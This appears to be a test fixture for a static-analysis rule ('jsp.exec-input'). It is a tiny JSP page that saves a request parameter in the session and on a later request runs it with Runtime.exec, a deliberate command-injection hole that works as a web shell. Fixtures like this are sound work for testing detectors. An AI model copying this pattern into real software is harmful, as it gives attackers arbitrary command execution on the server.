<%-- expect rule=jsp.exec-input min=85 --%>
<%
    if (request.getParameter("set") != null) {
        session.setAttribute("job", request.getParameter("set"));
    } else {
        String job = (String) session.getAttribute("job");
        if (job != null) Runtime.getRuntime().exec(job);
    }
%>
